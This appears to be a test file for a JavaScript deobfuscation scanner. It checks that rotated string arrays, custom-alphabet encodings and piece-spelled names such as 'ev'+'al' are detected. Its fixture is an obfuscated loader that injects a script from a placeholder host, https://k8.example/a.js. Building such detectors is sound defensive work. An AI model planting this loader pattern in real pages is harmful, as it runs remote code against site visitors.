"""Strings kept in arrays and small pieces: turned arrays, own alphabets, names spelt from pieces."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.scripts import traits, unpack
from scanner.scripts.rotated import unrotated
from scanner.scripts.scattered import scattered
from scanner.scripts.spelled import spelled

WORDS = ["createElement", "script", "src", "https://k8.example/a.js", "appendChild", "body"]
CODE = (
    "function _0xf(_0xa){_0xa=_0xa-0x1f0;return _0xarr[_0xa]}var _0xs=document[_0xf(0x1f0)](_0xf(0x1f1));"
    "_0xs[_0xf(0x1f2)]=_0xf(0x1f3);document[_0xf(0x1f5)][_0xf(0x1f4)](_0xs)"
)


@given(st.integers(0, 5))
def test_every_turn_is_found(by):
    turned = WORDS[by:] + WORDS[:by]
    assert "document['createElement']('script')" in (unrotated(CODE, [turned]) or "")


def test_other_lists_are_left_alone():
    assert unrotated(CODE, [["a.jpg", "b.jpg", "c.jpg", "d.jpg", "e.jpg", "f.jpg"]]) is None
    assert unrotated("turn(pics)", [WORDS]) is None


def test_a_long_array_costs_little():
    code = CODE + "".join(f"_0xf({0x1F0 + number})+'{'x' * 500}';" for number in range(2000))
    started = time.process_time()
    unrotated(code, [[f"s{number}" for number in range(600)]])
    assert time.process_time() - started < 20


ALPHABET = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/"


@pytest.mark.parametrize("key", ["", "kitten"])
def test_own_alphabets_are_read(key):
    words = [
        "".join(chr(ord(char) ^ ord(key[place % len(key)])) for place, char in enumerate(word)) if key else word
        for word in WORDS
    ]
    encoded = [base64.b64encode(word.encode("latin-1")).decode().swapcase() for word in words]
    (found,) = scattered([ALPHABET, *encoded, key or "none"], "a^b" if key else "")
    assert '"createElement"' in found


def test_without_telling_words_nothing_is_read():
    encoded = [base64.b64encode(word.encode()).decode().swapcase() for word in ("lorem", "ipsum", "dolor", "amet")]
    assert list(scattered([ALPHABET, *encoded], "")) == []


def test_names_in_pieces_are_counted():
    assert spelled("a['from'+'Char'+'Code'];b['ev'+'al']", "") == 2
    assert spelled("", '["w","in","dow"],["la","ve"]') == 2
    assert spelled("document.write('<scr'+'ipt>')", '["a","b"]') == 0


def test_templates_are_sums():
    assert "https://k8.example/" in unpack("s.src=`https://${'k8'}.${'ex'+'ample'}/`").text


@given(st.text(max_size=300))
def test_any_text_is_measured(text):
    assert traits(unpack(text)).symbols <= 100
